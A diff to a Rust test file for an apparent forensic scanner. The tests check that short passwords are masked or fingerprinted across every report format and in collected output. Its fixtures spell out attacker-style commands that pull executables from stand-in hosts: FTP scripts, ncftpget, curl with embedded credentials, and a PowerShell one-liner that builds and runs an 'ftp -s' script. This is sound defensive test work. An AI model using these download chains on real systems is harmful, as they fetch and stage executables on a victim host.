@@ -68,7 +68,7 @@ fn a_report_that_travels_does_not() {
     let key = tempfile::NamedTempFile::new().unwrap();
     fs::write(key.path(), "the key").unwrap();
     let key = key.path().to_str().unwrap();
-    for format in ["text", "json", "jsonl", "playbook", "timesketch"] {
+    for format in FORMATS {
         for mode in [&["--secrets", "mask"][..], &["--secrets", "fingerprint", "--fingerprint-key", key]] {
             let (report, _) = shown(mode, format);
             let line = report.lines().find(|line| line.contains(CANARY));
@@ -129,4 +129,107 @@ fn findings_never_hold_one() {
         assert!(shell || !finding.to_string().contains(CANARY), "{finding:#}");
     }
     assert!(!report["errors"].to_string().contains(CANARY));
+}
+
+/// Passwords that are part of other words, in all places that a report has.
+fn host_of_short(word: &str) -> tempfile::TempDir {
+    let folder = tempfile::tempdir().unwrap();
+    let put = |name: &str, content: String| fs::write(folder.path().join(name), content).unwrap();
+    put(
+        "a.txt",
+        format!(
+            "open 192.0.2.1\r\nuser bob {word}\r\ndelete {word}\r\nrename {word} {word}\r\nmkdir {word}\r\nrmdir {word}\r\n\
+             cd {word}\r\nlcd {word}\r\nget {word}\r\nput {word} {word}\r\nquote site {word}\r\n!echo {word}\r\nbye\r\n"
+        ),
+    );
+    put("b.txt", format!("open 192.0.2.2\r\nbob\r\n{word}\r\nget a.exe\r\nbye\r\n"));
+    put(
+        "c.sh",
+        format!("#!/bin/sh\nncftpget -u bob -p{word} 192.0.2.3 . /x.exe\ncurl -O ftp://bob:{word}@192.0.2.5/x.exe\n"),
+    );
+    put("d.ps1", format!("\"open 192.0.2.4`nbob`n{word}`nget a.exe`nbye`n\" | Out-File e.txt\r\nftp -s:e.txt\r\n"));
+    let line = format!(
+        "powershell -c \"\"\"open 192.0.2.7`nuser`nbob`n{word}`nget a.exe`nbye`n\"\"\" | Out-File h.txt; ftp -s:h.txt; ncftpget -u bob -p{word} 192.0.2.8 . x"
+    );
+    let data = serde_json::json!({
+        "UtcTime": "2024-05-12 10:00:00.000", "ProcessGuid": "{365ABB72-55F1-5CD8-0000-000000000002}", "ProcessId": 7,
+        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": line, "User": "PC1\\kim",
+        "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": line,
+    });
+    let system = serde_json::json!({
+        "Provider": { "#attributes": { "Name": "Microsoft-Windows-Sysmon" } }, "EventID": 1, "EventRecordID": 1,
+        "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "PC1",
+        "TimeCreated": { "#attributes": { "SystemTime": "2024-05-12T10:00:00.000Z" } },
+    });
+    put("sysmon.jsonl", format!("{}\n", serde_json::json!({ "Event": { "System": system, "EventData": data } })));
+    folder
+}
+
+const FORMATS: [&str; 5] = ["text", "json", "jsonl", "playbook", "timesketch"];
+
+fn report_of(folder: &std::path::Path, format: &str, more: &[&str]) -> String {
+    let out = program().arg("scan").arg(folder).args(["--format", format]).args(more).output().unwrap();
+    String::from_utf8(out.stdout).unwrap()
+}
+
+/// A regression: of a word of seven bytes or fewer only what stood alone was hidden, and some lists were forgotten.
+#[test]
+fn a_short_one_is_hidden_in_every_place_of_every_format() {
+    let key = tempfile::NamedTempFile::new().unwrap();
+    fs::write(key.path(), "the key").unwrap();
+    let fingerprint = ["--secrets", "fingerprint", "--fingerprint-key", key.path().to_str().unwrap()];
+    for word in ["Vx9kTz", "Zw4q"] {
+        let folder = host_of_short(word);
+        for format in FORMATS {
+            assert!(report_of(folder.path(), format, &[]).contains(word), "{word} {format}");
+            for mode in [&["--secrets", "mask"][..], &fingerprint] {
+                let report = report_of(folder.path(), format, mode);
+                let line = report.lines().find(|line| line.contains(word));
+                assert_eq!(line, None, "{word} {format} {mode:?}");
+                assert!(report.contains("192.0.2.7") || report.contains("ftp"), "{word} {format}");
+            }
+        }
+        let out = tempfile::tempdir().unwrap();
+        let target = out.path().join("x");
+        let mut collect = program();
+        collect.arg("collect").arg(folder.path()).arg("-o").arg(&target).args(["--secrets", "mask"]).output().unwrap();
+        for file in ["report.json", "manifest.json"] {
+            assert!(!fs::read_to_string(target.join(file)).unwrap().contains(word), "{word} {file}");
+        }
+    }
+}
+
+/// Hidden all over, `a` and `get` would leave nothing to read.
+#[test]
+fn a_very_short_one_leaves_a_report_to_read() {
+    for word in ["a", "get"] {
+        let folder = host_of_short(word);
+        let report = report_of(folder.path(), "json", &["--secrets", "mask"]);
+        let report: serde_json::Value = serde_json::from_str(&report).unwrap();
+        let scripts = report["scripts"].as_array().unwrap();
+        let of = |name: &str| scripts.iter().find(|script| script["path"] == name).unwrap();
+        let commands = |name: &str| -> Vec<&str> {
+            of(name)["sessions"][0]["commands"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .filter_map(|one| one["text"].as_str())
+                .collect()
+        };
+        assert!(commands("a.txt").contains(&"user bob ****"), "{word}: {:?}", commands("a.txt"));
+        assert!(commands("a.txt").contains(&format!("get {word}").as_str()), "{word}: {:?}", commands("a.txt"));
+        assert_eq!(commands("b.txt")[1..4], ["bob", "****", "get a.exe"], "{word}");
+        let launches = report["launches"].as_array().unwrap();
+        let line = |part: &str| {
+            let mut lines = launches.iter().filter_map(|launch| launch["command_line"].as_str());
+            lines.find(|line| line.contains(part)).unwrap().to_owned()
+        };
+        assert_eq!(line("192.0.2.3"), "ncftpget -u bob -p**** 192.0.2.3 . /x.exe", "{word}");
+        assert_eq!(line("192.0.2.5"), "curl -O ftp://bob:****@192.0.2.5/x.exe", "{word}");
+        for finding in report["findings"].as_array().unwrap() {
+            assert!(!finding["explanation"].as_str().unwrap().starts_with("****"), "{word}: {finding}");
+        }
+        let event = report["events"][0]["process"]["command_line"].as_str().unwrap();
+        assert!(event.contains("`nbob`n****`nget a.exe`n"), "{word}: {event}");
+    }
 }
